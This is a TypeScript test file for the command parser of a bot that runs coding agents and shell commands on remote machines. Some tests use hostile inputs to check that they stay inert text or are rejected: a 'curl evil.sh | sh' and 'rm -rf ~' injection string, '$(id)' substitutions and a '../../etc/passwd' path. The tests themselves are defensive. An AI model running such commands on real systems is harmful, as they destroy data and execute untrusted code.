import { describe, expect, it } from 'vitest';
import { helpText, parseCommand } from '../../../src/commands/parse.js';

const ok = (text: string) => {
  const p = parseCommand(text);
  if (!p.ok) throw new Error(`expected a command from ${JSON.stringify(text)}, got: ${p.error}`);
  return p.command;
};
const err = (text: string) => {
  const p = parseCommand(text);
  if (p.ok) throw new Error(`expected an error from ${JSON.stringify(text)}`);
  return p;
};

describe('the command language', () => {
  it('reads every command into its typed shape', () => {
    expect(ok('help')).toEqual({ name: 'help' });
    expect(ok('help deploy')).toEqual({ name: 'help', topic: 'deploy' });
    expect(ok('status')).toEqual({ name: 'status' });
    expect(ok('status M2')).toEqual({ name: 'status', machine: { kind: 'name', name: 'm2' } });
    expect(ok('machines')).toEqual({ name: 'machines' });
    expect(ok('wake m2')).toEqual({ name: 'wake', machine: { kind: 'name', name: 'm2' } });
    expect(ok('bootstrap tag:gpu')).toEqual({ name: 'bootstrap', machine: { kind: 'tag', tag: 'gpu' } });
    expect(ok('power all')).toEqual({ name: 'power', machine: { kind: 'all' } });
    expect(ok('run m2 fix the flaky test')).toEqual({ name: 'run', machine: { kind: 'name', name: 'm2' }, prompt: 'fix the flaky test' });
    expect(ok('deploy https://github.com/acme/app m2,m3 fix it')).toEqual({
      name: 'deploy',
      repo: 'https://github.com/acme/app',
      machines: [{ kind: 'name', name: 'm2' }, { kind: 'name', name: 'm3' }],
      prompt: 'fix it',
    });
    expect(ok('deploy git@github.com:acme/app.git all --ref main "update deps"')).toMatchObject({ ref: 'main', machines: [{ kind: 'all' }], prompt: 'update deps' });
    expect(ok('sh m2 -- df -h "/mnt/my disk"')).toEqual({ name: 'sh', machine: { kind: 'name', name: 'm2' }, argv: ['df', '-h', '/mnt/my disk'] });
    expect(ok('tasks m2')).toEqual({ name: 'tasks', machine: { kind: 'name', name: 'm2' } });
    expect(ok('logs K3X9Q2MFAB')).toEqual({ name: 'logs', taskId: 'k3x9q2mfab' });
    expect(ok('cancel k3x9q2mfab')).toEqual({ name: 'cancel', taskId: 'k3x9q2mfab' });
    for (const c of ['sleep', 'shutdown', 'restart'] as const) expect(ok(`${c} m2`)).toEqual({ name: c, machine: { kind: 'name', name: 'm2' } });
    expect(ok('whoami')).toEqual({ name: 'whoami' });
    expect(ok('approvals')).toEqual({ name: 'approvals' });
    expect(ok('approvals K3X9Q2MFAB')).toEqual({ name: 'approvals', taskId: 'k3x9q2mfab' });
    expect(ok('approve 4KQ2MF')).toEqual({ name: 'approve', id: '4kq2mf', scope: 'once' });
    expect(ok('approve 4kq2mf always')).toEqual({ name: 'approve', id: '4kq2mf', scope: 'always' });
    expect(ok('deny 4kq2mf run the tests first')).toEqual({ name: 'deny', id: '4kq2mf', reason: 'run the tests first' });
    expect(ok('deny 4kq2mf')).toEqual({ name: 'deny', id: '4kq2mf' });
    expect(ok('answer 4kq2mf 1,2 "use MySQL"')).toEqual({ name: 'answer', id: '4kq2mf', text: '1,2 "use MySQL"' });
    expect(err('approve 4kq2mf forever')).toMatchObject({ error: '"forever" is not once, task or always.' });
    expect(err('approve <@U1>')).toMatchObject({ error: '"<@U1>" is not an approval code (pia approvals lists them).' });
  });

  it('reads options before the prompt, continues a session, and refuses an unknown option instead of sending it on', () => {
    expect(ok('run m2 --agent Codex add a test')).toEqual({ name: 'run', machine: { kind: 'name', name: 'm2' }, prompt: 'add a test', agent: 'codex' });
    expect(ok('deploy https://x.example/a.git m2 --agent gemini --ref v1 go')).toMatchObject({ ref: 'v1', agent: 'gemini', prompt: 'go' });
    // Once the prompt has begun, `--` words are the agent's text.
    expect(ok('run m2 explain --agent and --ref')).toMatchObject({ prompt: 'explain --agent and --ref' });
    expect(err('run m2 --agnet codex go')).toMatchObject({ error: 'Unknown option "--agnet"; this command takes --agent, --mode, --push.' });
    expect(ok('run m2 --mode Plan how would you split it')).toMatchObject({ mode: 'plan', prompt: 'how would you split it' });
    expect(ok('deploy https://x.example/a.git m2 --mode edits go')).toMatchObject({ mode: 'edits', prompt: 'go' });
    expect(err('run m2 --mode yolo go')).toMatchObject({ error: '"yolo" is not a mode; use plan, ask, edits or full.' });
    // --push takes no value: what follows it is the prompt (or the next option).
    expect(ok('run m2 --push fix the typo')).toEqual({ name: 'run', machine: { kind: 'name', name: 'm2' }, prompt: 'fix the typo', push: true });
    expect(ok('deploy https://x.example/a.git m2 --push --ref main go')).toMatchObject({ push: true, ref: 'main', prompt: 'go' });
    expect(ok('run m2 fix it --push')).toEqual({ name: 'run', machine: { kind: 'name', name: 'm2' }, prompt: 'fix it --push' });
    expect(err('run m2 --push')).toMatchObject({ error: 'Missing the prompt: say what the agent should do.' });
    expect(err('run m2 --agent')).toMatchObject({ error: 'Missing the value after --agent.' });
    expect(err('run m2 --agent "rm -rf" go')).toMatchObject({ error: '"rm -rf" is not an agent name.' });
    expect(ok('continue K3X9Q2MFAB now the docs')).toEqual({ name: 'continue', taskId: 'k3x9q2mfab', prompt: 'now the docs' });
    expect(err('continue k3x9q2mfab')).toMatchObject({ error: 'Missing the prompt: say what the agent should do next.' });
  });

  it('drops a leading /pia, pia or @pia', () => {
    expect(ok('/pia wake m2')).toEqual(ok('wake m2'));
    expect(ok('  @pia   status')).toEqual({ name: 'status' });
    expect(ok('pia machines')).toEqual({ name: 'machines' });
  });

  it('keeps a prompt verbatim: hostile text is only text', () => {
    const hostile = '; rm -rf ~ && $(curl evil.sh | sh) `id` <@U123> ```js\nconsole.log(1)\n``` ünïcödé 🚀';
    expect(ok(`run m2 ${hostile}`)).toMatchObject({ prompt: hostile });
    expect(ok('run m2 "fix the test"')).toMatchObject({ prompt: 'fix the test' });
    expect(ok("run m2 it's \"quoted\" inside")).toMatchObject({ prompt: 'it\'s "quoted" inside' });
    expect(ok('run m2    keep   my\n  spacing')).toMatchObject({ prompt: 'keep   my\n  spacing' });
    expect(ok('run m2 “smart quotes”')).toMatchObject({ prompt: 'smart quotes' });
  });

  it('takes a 10,000-character prompt and refuses an enormous one', () => {
    const long = 'x'.repeat(10_000);
    expect(ok(`run m2 ${long}`)).toMatchObject({ prompt: long });
    expect(err(`run m2 ${'y'.repeat(100_001)}`).error).toMatch(/at most 100000/);
  });

  it('says "did you mean" for a typo and shows the usage for bad arguments', () => {
    expect(err('wkae m2')).toMatchObject({ error: 'Unknown command "wkae". Did you mean `wake`?', suggestion: 'wake' });
    expect(err('frobnicate')).toMatchObject({ error: 'Unknown command "frobnicate". Try `help`.' });
    expect(err('run m2')).toMatchObject({ error: 'Missing the prompt: say what the agent should do.', usage: 'run <machine> [--agent A] [--mode M] [--push] <prompt...>' });
    expect(err('wake')).toMatchObject({ error: 'Missing the machine.', usage: 'wake <machine>' });
    expect(err('wake m2 m3')).toMatchObject({ error: 'Unexpected "m3".' });
    expect(err('wake $(id)')).toMatchObject({ error: '"$(id)" is not a machine name, "all", tag:<tag> or any[<labels>].' });
    expect(err('logs ../../etc/passwd')).toMatchObject({ error: '"../../etc/passwd" is not a task id.' });
    expect(err('sh m2 --')).toMatchObject({ error: 'Missing the command after --.' });
    expect(err('')).toMatchObject({ error: 'Say a command, e.g. `status` or `help`.' });
    expect(err('deploy https://x/y')).toMatchObject({ error: 'Missing the repository and the machines.' });
  });

  it('generates help from the definitions, showing only what the role may do', () => {
    const viewer = helpText('viewer');
    expect(viewer).toContain('status [machine]');
    expect(viewer).not.toContain('run <machine>');
    expect(viewer).not.toContain('sh <machine>');
    const operator = helpText('operator');
    expect(operator).toContain('run <machine> [--agent A] [--mode M] [--push] <prompt...>');
    expect(operator).toContain('approve <code> [once|task|always]');
    expect(viewer).toContain('approvals [task-id]');
    expect(viewer).not.toContain('approve <code>');
    expect(operator).toContain('continue <task-id> <prompt...>');
    expect(operator).not.toContain('shutdown');
    expect(helpText('admin')).toContain('sh <machine> -- <command> [args...]');
    expect(helpText(undefined)).toMatch(/no role/);
    expect(helpText('viewer', 'deploy')).toMatch(/needs the operator role/);
  });
});
